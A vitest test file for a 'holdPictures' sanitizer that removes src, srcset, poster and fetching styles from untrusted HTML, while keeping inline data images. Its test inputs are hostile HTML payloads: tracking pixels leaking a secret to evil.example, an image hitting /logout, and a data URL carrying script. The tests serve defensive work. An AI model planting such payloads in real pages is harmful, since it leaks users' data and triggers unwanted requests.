import { expect, test } from 'vitest';

import { holdPictures } from '../../src/untrusted';

const hold = (html: string): HTMLElement => {
  const host = document.createElement('div');
  host.innerHTML = holdPictures({ sanitize: dirty => dirty }).sanitize(html);
  return host;
};

test.each([
  '<img src="https://evil.example/pixel?secret">',
  '<img src="/logout">',
  '<img src="//evil.example/x" srcset="https://evil.example/y 2x">',
  '<img src="data:text/html,<script>1</script>">',
  '<video poster="https://evil.example/p" src="https://evil.example/v"></video>',
  '<picture><source srcset="https://evil.example/s"><img src="https://evil.example/x"></picture>'
])('%s is not fetched', html => {
  const host = hold(html);
  for (const element of host.querySelectorAll('*')) {
    expect(element.getAttributeNames()).not.toEqual(
      expect.arrayContaining([expect.stringMatching(/^(src|srcset|poster)$/)])
    );
  }
});

test('a picture that is in the text itself stays', () => {
  expect(hold('<img src="data:image/png;base64,AQID">').querySelector('img')?.src).toBe(
    'data:image/png;base64,AQID'
  );
});

test('a style that would fetch something is taken off', () => {
  expect(hold('<p style="background: url(https://evil.example/x)">a</p>').innerHTML).toBe(
    '<p>a</p>'
  );
});
